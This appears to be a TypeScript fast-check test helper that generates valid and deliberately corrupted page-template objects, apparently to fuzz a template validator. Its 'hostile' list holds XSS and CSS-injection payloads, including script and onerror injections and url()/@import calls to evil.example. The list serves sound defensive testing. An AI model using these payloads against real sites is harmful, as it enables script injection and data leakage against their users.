import fc from 'fast-check';
import { FONT_SIZE } from '#domain/template/limits.ts';
import {
  type DataSource,
  fonts,
  fontWeights,
  isAlwaysShown,
  layouts,
  placesOf,
  sourcesOf,
  type TemplateName,
} from '#domain/template/parts.ts';

/** What somebody might try to write into a style sheet, a page or a script. */
const hostile = fc.oneof(
  fc.constantFrom(
    '</style><script>alert(1)</script>',
    'red;} body{display:none} .x{',
    '#fff;background:url(https://evil.example/?c)',
    'expression(alert(1))',
    '@import "https://evil.example/x.css";',
    'javascript:alert(1)',
    '"><img src=x onerror=alert(1)>',
    '12px;position:fixed;inset:0;z-index:9999',
    '\\75rl(x)',
    '*/}html{visibility:hidden}/*',
    '\u202e\u0000',
    '1e9px',
    '#ffffff\n}',
    '__proto__',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.anything(),
);
/** What was meant; or now and then something else in its place. */
type Or = <Value>(meant: fc.Arbitrary<Value>) => fc.Arbitrary<unknown>;
const orHostile: Or = (meant) => fc.oneof({ weight: 30, arbitrary: meant }, { weight: 1, arbitrary: hostile });
const asMeant: Or = (meant) => meant;
const colour = fc.oneof(
  fc.constantFrom('#ffffff', '#000000', '#9333ea', '#fdfbf8', '#FEFEFE'),
  fc.integer({ min: 0, max: 0xffffff }).map((value) => `#${value.toString(16).padStart(6, '0')}`),
);
const pixels = (max: number): fc.Arbitrary<unknown> =>
  fc.oneof(
    fc.integer({ min: 0, max }),
    fc.integer({ min: 0, max }).map((value) => `${value}px`),
  );
/** What somebody might send as a template of `name`: right in most places, so that some are taken. */
export const hostileTemplateOf = (name: TemplateName): fc.Arbitrary<unknown> =>
  template(name, orHostile, fc.constantFrom(true, true, true, false));
/** What the rules allow, whatever it looks like. */
export const allowedTemplateOf = (name: TemplateName): fc.Arbitrary<unknown> =>
  template(name, asMeant, fc.constant(true));

const template = (name: TemplateName, or: Or, keptVisible: fc.Arbitrary<boolean>): fc.Arbitrary<unknown> =>
  fc.record({
    name: or(fc.constant(name)),
    config: or(
      fc.record({
        layout: or(fc.constantFrom(...keys(layouts))),
        columns: or(fc.integer({ min: 1, max: 4 })),
        spacing: or(pixels(48)),
        cardStyle: or(fc.record({ backgroundColor: or(colour), borderRadius: or(pixels(32)) })),
        globalStyles: or(fc.record({ primaryColor: or(colour), font: or(fc.constantFrom(...keys(fonts))) })),
      }),
    ),
    fields: or(
      fc
        .shuffledSubarray([...sourcesOf(name)])
        .chain((sources) =>
          fc.tuple(...sources.map((source, index) => field(name, { source, index, or, keptVisible }))),
        ),
    ),
  });

interface Drawn {
  readonly source: DataSource;
  readonly index: number;
  readonly or: Or;
  readonly keptVisible: fc.Arbitrary<boolean>;
}
const field = (name: TemplateName, { source, index, or, keptVisible }: Drawn): fc.Arbitrary<unknown> =>
  fc.record(
    {
      fieldName: or(fc.constant(`field${index}`)),
      fieldType: or(fc.constantFrom(...(placesOf[name][source] ?? ['text']))),
      displayName: or(fc.string({ minLength: 1, maxLength: 20 }).map((text) => `x${text}`)),
      dataSource: or(fc.constant(source)),
      isVisible: or(isAlwaysShown(source) ? keptVisible : fc.boolean()),
      isRequired: fc.constant(false),
      order: or(fc.integer({ min: 0, max: 30 })),
      styles: or(
        fc.record(
          {
            fontSize: or(fc.integer(FONT_SIZE)),
            fontWeight: or(fc.constantFrom(...keys(fontWeights))),
            color: or(colour),
            backgroundColor: or(colour),
            borderRadius: or(pixels(32)),
          },
          { requiredKeys: [] },
        ),
      ),
    },
    { requiredKeys: ['fieldName', 'fieldType', 'displayName', 'dataSource', 'order'] },
  );
const keys = (words: Readonly<Record<string, string>>): readonly string[] => Object.keys(words);
